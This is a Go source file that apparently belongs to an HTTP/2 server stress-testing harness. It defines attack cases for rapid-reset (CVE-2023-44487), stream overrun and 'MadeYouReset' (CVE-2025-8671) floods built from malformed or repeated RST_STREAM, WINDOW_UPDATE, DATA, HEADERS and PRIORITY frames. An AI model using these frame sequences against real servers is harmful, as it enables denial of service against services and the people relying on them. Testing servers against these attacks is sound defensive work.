package h2attack

import "golang.org/x/net/http2"

// resets are attacks by streams that are opened only to be ended.
func resets() []Attack {
	return []Attack{
		{
			Name: "rapid-reset", About: "a request and its RST_STREAM, again and again (CVE-2023-44487)",
			Unit: "resets", Most: many, Budget: cancels, streams: true,
			send: func(c *conn, _ int) error {
				if err := c.open(c.get, true); err != nil {
					return err
				}
				return c.framer.WriteRSTStream(c.id, http2.ErrCodeCancel)
			},
		},
		{
			Name: "reset-batches", About: "fifty requests, then their fifty RST_STREAM (CVE-2023-44487)",
			Unit: "resets", Most: many, Budget: cancels, streams: true,
			send: func(c *conn, unit int) error {
				if err := c.open(c.get, true); err != nil || unit%50 < 49 {
					return err
				}
				for i := range uint32(50) {
					if err := c.framer.WriteRSTStream(c.id-98+2*i, http2.ErrCodeCancel); err != nil {
						return err
					}
				}
				return nil
			},
		},
		{
			Name: "reset-again", About: "RST_STREAM on a stream that is gone",
			Unit: "resets", Most: many, Budget: cancels,
			begin: func(c *conn) error { return c.open(c.get, true) },
			send:  func(c *conn, _ int) error { return c.framer.WriteRSTStream(c.id, http2.ErrCodeCancel) },
		},
		{
			Name: "stream-overrun", About: "requests beyond the number of streams at one time, none of whose responses may end",
			Unit: "streams", Most: many, Budget: streamsEach + 200, streams: true, settings: windowOf(0),
			send: func(c *conn, _ int) error { return c.open(c.get, true) },
		},
	}
}

// provokedResets are attacks that make the server reset the stream (MadeYouReset, CVE-2025-8671), so that its own count of what
// the client resets stays at zero.
func provokedResets() []Attack {
	provoke := func(name, about string, end bool, what func(c *conn) error) Attack {
		return Attack{
			Name: "made-you-reset-" + name, About: "a request and " + about + " (CVE-2025-8671)",
			Unit: "resets", Most: many, Budget: mistakes, streams: true,
			send: func(c *conn, _ int) error {
				section := c.get
				if !end {
					section = c.counted
				}
				if err := c.open(section, end); err != nil {
					return err
				}
				return what(c)
			},
		}
	}
	return []Attack{
		provoke("window", "a WINDOW_UPDATE of 0", true, func(c *conn) error {
			return c.raw(http2.FrameWindowUpdate, 0, c.id, make([]byte, 4))
		}),
		provoke("overflow", "a WINDOW_UPDATE too far", true, func(c *conn) error {
			return c.framer.WriteWindowUpdate(c.id, 1<<31-1)
		}),
		provoke("data", "DATA after its end", true, func(c *conn) error {
			return c.framer.WriteData(c.id, true, []byte{'x'})
		}),
		provoke("headers", "HEADERS after its end", true, func(c *conn) error {
			return c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: c.id, BlockFragment: c.get, EndStream: true, EndHeaders: true})
		}),
		provoke("priority", "a PRIORITY that is too short", true, func(c *conn) error {
			return c.raw(http2.FramePriority, 0, c.id, make([]byte, 4))
		}),
		provoke("self", "a PRIORITY by which it depends on itself", true, func(c *conn) error {
			return c.framer.WritePriority(c.id, http2.PriorityParam{StreamDep: c.id})
		}),
		provoke("length", "more DATA than its content-length says", false, func(c *conn) error {
			return c.framer.WriteData(c.id, true, make([]byte, declared+1))
		}),
	}
}

// windowOf has the server's streams begin with so many bytes that it may send.
func windowOf(n uint32) []http2.Setting {
	return []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: n}}
}
